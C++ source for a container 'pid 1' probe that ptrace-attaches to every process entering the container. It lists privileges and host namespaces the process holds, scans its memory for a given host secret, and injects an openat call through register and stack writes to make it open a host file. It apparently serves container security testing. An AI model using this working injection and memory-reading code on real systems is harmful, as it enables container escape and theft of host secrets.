// spy: pid 1 of a container that attaches to each process that enters it, as soon as it may.
//
// The next process has the next pid, or one of those after it if some were missed. Prints a line
// for each: "PID EXE UID" is a traced process, the program that it ran and its uid then; "PID
// refused" is one that could not be traced while it existed.
//
// With a host's file and a secret of the host's as arguments a line is "PID EXE UID gains: WHAT;…":
// what the process has that this one does not have, whether its memory could be read and it could
// be made to call, and the result of that.
#include <dirent.h>
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <string>
#include <vector>

#include "newest.h"

namespace {

std::string path_of(pid_t pid, const char* file) {
  return "/proc/" + std::to_string(pid) + "/" + file;
}

std::string link_of(const std::string& path) {
  char target[512] = "?";
  const ssize_t size = readlink(path.c_str(), target, sizeof target - 1);
  return std::string(target, size < 0 ? 1 : static_cast<size_t>(size));
}

/// Returns a field of /proc/PID/status; see proc_pid_status(5).
std::string status_of(pid_t pid, const std::string& name) {
  FILE* file = fopen(path_of(pid, "status").c_str(), "re");
  if (file == nullptr) return "?";
  char line[512];
  std::string value = "?";
  while (fgets(line, sizeof line, file) != nullptr) {
    if (strncmp(line, name.c_str(), name.size()) == 0 && line[name.size()] == ':') {
      value = line + name.size() + 1;
      value.erase(0, value.find_first_not_of(" \t"));
      value.erase(value.find_last_not_of('\n') + 1);
    }
  }
  fclose(file);
  return value;
}

/// Returns the real uid.
long user_of(pid_t pid) { return strtol(status_of(pid, "Uid").c_str(), nullptr, 10); }

struct Loot {
  const char* file;    ///< of the host
  const char* secret;  ///< in the host's memory
  std::vector<std::string> gains;

  void note(const std::string& gain) { gains.push_back(gain); }
};

void look_at_rights(pid_t pid, Loot& loot) {
  for (const char* set : {"CapPrm", "CapEff", "CapInh", "CapBnd", "CapAmb"}) {
    const auto rights = strtoull(status_of(pid, set).c_str(), nullptr, 16);
    if ((rights & ~strtoull(status_of(getpid(), set).c_str(), nullptr, 16)) != 0) {
      loot.note(std::string(set) + ":" + status_of(pid, set));
    }
  }
  for (const char* confinement : {"Seccomp", "Seccomp_filters", "NoNewPrivs"}) {
    const std::string value = status_of(pid, confinement);
    if (value < status_of(getpid(), confinement)) loot.note(confinement + (":" + value));
  }
}

void look_at_places(pid_t pid, Loot& loot) {
  for (const char* kind :
       {"cgroup", "ipc", "mnt", "net", "pid", "pid_for_children", "user", "uts"}) {
    const std::string name = std::string("ns/") + kind;
    if (link_of(path_of(pid, name.c_str())) != link_of(path_of(getpid(), name.c_str()))) {
      loot.note(name);
    }
  }
  for (const char* place : {"root/", "cwd/"}) {
    struct stat theirs{};
    struct stat own{};
    if (stat(path_of(pid, place).c_str(), &theirs) == 0 && stat("/", &own) == 0 &&
        (theirs.st_dev != own.st_dev || theirs.st_ino != own.st_ino)) {
      loot.note(place);
    }
  }
}

/// Besides its standard streams the process may have a socket by which it reports how its execve(2)
/// ends, and one by which it gets answers.
void look_at_files(pid_t pid, Loot& loot) {
  DIR* files = opendir(path_of(pid, "fd").c_str());
  int sockets = 0;
  for (const dirent* entry; files != nullptr && (entry = readdir(files)) != nullptr;) {
    if (strtol(entry->d_name, nullptr, 10) < 3) continue;
    const std::string target = link_of(path_of(pid, "fd/") + entry->d_name);
    if (!target.starts_with("socket:") || ++sockets > 2) loot.note("fd:" + target);
  }
  if (files != nullptr) closedir(files);
}

void look_at_memory(pid_t pid, Loot& loot) {
  const int memory = open(path_of(pid, "mem").c_str(), O_RDWR | O_CLOEXEC);
  FILE* maps = fopen(path_of(pid, "maps").c_str(), "re");
  char line[1024];
  bool found = false;
  bool read_any = false;
  while (maps != nullptr && memory >= 0 && fgets(line, sizeof line, maps) != nullptr) {
    unsigned long begin = 0;
    unsigned long end = 0;
    if (sscanf(line, "%lx-%lx", &begin, &end) != 2 || end - begin > (64UL << 20)) continue;
    std::string bytes(end - begin, '\0');
    const ssize_t size = pread(memory, bytes.data(), bytes.size(), static_cast<off_t>(begin));
    if (size <= 0) continue;
    read_any = true;
    bytes.resize(static_cast<size_t>(size));
    found = found || bytes.find(loot.secret) != std::string::npos;
  }
  if (maps != nullptr) fclose(maps);
  if (memory >= 0) close(memory);
  if (found) loot.note("memory:secret");
  if (read_any) loot.note("read");
}

/// Lets the process run to the entry or exit of its next system call.
bool run_to_call(pid_t pid) {
  int status = 0;
  return ptrace(PTRACE_SYSCALL, pid, nullptr, nullptr) == 0 &&
         waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status) &&
         WSTOPSIG(status) == (SIGTRAP | 0x80);
}

bool move_registers(int request, pid_t pid, user_regs_struct& registers) {
  iovec vector{&registers, sizeof registers};
  return ptrace(static_cast<__ptrace_request>(request), pid, NT_PRSTATUS, &vector) == 0;
}

#if defined(__x86_64__)
unsigned long stack_of(const user_regs_struct& registers) { return registers.rsp; }

long result_of(const user_regs_struct& registers) { return static_cast<long>(registers.rax); }

bool set_call(pid_t pid, user_regs_struct registers, long number, unsigned long path) {
  registers.orig_rax = static_cast<unsigned long>(number);
  registers.rdi = static_cast<unsigned long>(AT_FDCWD);
  registers.rsi = path;
  registers.rdx = O_RDONLY | O_CLOEXEC;
  return move_registers(PTRACE_SETREGSET, pid, registers);
}

/// Makes the process repeat the call at whose entry it had these registers.
void call_again(pid_t pid, user_regs_struct registers) {
  registers.rip -= 2;  // of "syscall"
  registers.rax = registers.orig_rax;
  registers.orig_rax = ~0UL;
  move_registers(PTRACE_SETREGSET, pid, registers);
}
#elif defined(__aarch64__)
unsigned long stack_of(const user_regs_struct& registers) { return registers.sp; }

long result_of(const user_regs_struct& registers) { return static_cast<long>(registers.regs[0]); }

/// The kernel reads the number from x8 before it notifies the tracer; from then on it is a register
/// of its own.
bool set_number(pid_t pid, int number) {
  iovec vector{&number, sizeof number};
  return ptrace(PTRACE_SETREGSET, pid, NT_ARM_SYSTEM_CALL, &vector) == 0;
}

bool set_call(pid_t pid, user_regs_struct registers, long number, unsigned long path) {
  registers.regs[0] = static_cast<unsigned long>(AT_FDCWD);
  registers.regs[1] = path;
  registers.regs[2] = O_RDONLY | O_CLOEXEC;
  return move_registers(PTRACE_SETREGSET, pid, registers) &&
         set_number(pid, static_cast<int>(number));
}

/// Makes the process repeat the call at whose entry it had these registers.
void call_again(pid_t pid, user_regs_struct registers) {
  registers.pc -= 4;  // of "svc"
  move_registers(PTRACE_SETREGSET, pid, registers);
  set_number(pid, -1);
}
#endif

/// Makes the process open the host's file in place of its next call, and make that call afterwards.
void make_it_open(pid_t pid, Loot& loot) {
  user_regs_struct before{};
  if (!run_to_call(pid) || !move_registers(PTRACE_GETREGSET, pid, before)) return;
  std::string path = loot.file;
  path.resize((path.size() + 8) / 8 * 8);
  const unsigned long place = (stack_of(before) - 2048 - path.size()) & ~7UL;
  for (size_t i = 0; i < path.size(); i += 8) {
    long word = 0;
    memcpy(&word, path.data() + i, sizeof word);
    ptrace(PTRACE_POKEDATA, pid, place + i, word);
  }
  user_regs_struct after{};
  if (!set_call(pid, before, SYS_openat, place) || !run_to_call(pid) ||
      !move_registers(PTRACE_GETREGSET, pid, after)) {
    return;
  }
  loot.note("made it call");
  if (result_of(after) >= 0) loot.note("opened:" + std::string(loot.file));
  call_again(pid, before);
}

void tell_of(pid_t pid, Loot* loot) {
  int status = 0;
  ptrace(PTRACE_INTERRUPT, pid, nullptr, nullptr);
  if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
    std::string line = link_of(path_of(pid, "exe")) + " " + std::to_string(user_of(pid));
    if (loot != nullptr) {
      loot->gains.clear();
      look_at_rights(pid, *loot);
      look_at_places(pid, *loot);
      look_at_files(pid, *loot);
      look_at_memory(pid, *loot);
      make_it_open(pid, *loot);
      line += " gains:";
      for (const std::string& gain : loot->gains) line += " " + gain + ";";
    }
    printf("%d %s\n", pid, line.c_str());
  } else {
    printf("%d ended\n", pid);
  }
  ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
}

/// Waits for a process that is newer than `last`; returns its pid.
pid_t look_at_next(pid_t last, Loot* loot) {
  constexpr int ahead = 4;
  constexpr int turns = 256;
  pid_t first = last + 1;
  pid_t seen = -1;
  for (int turn = 0;; ++turn) {
    // Some processes may have come and gone while this one was not running.
    if (turn % turns == 0 && seen < 0) first = std::max(first, newest() + 1);
    for (pid_t pid = first; pid < first + ahead; ++pid) {
      if (ptrace(PTRACE_SEIZE, pid, nullptr, PTRACE_O_TRACESYSGOOD) == 0) {
        tell_of(pid, loot);
        return pid;
      }
      if (errno != ESRCH) seen = pid;
      if (errno == ESRCH && seen == pid) {
        printf("%d refused\n", pid);
        return pid;
      }
    }
  }
}

}  // namespace

int main(int argc, char** argv) {
  Loot loot{argc > 2 ? argv[1] : "", argc > 2 ? argv[2] : "", {}};
  setvbuf(stdout, nullptr, _IOLBF, 0);
  printf("begun\n");
  for (pid_t pid = 1;;) pid = look_at_next(pid, argc > 2 ? &loot : nullptr);
}
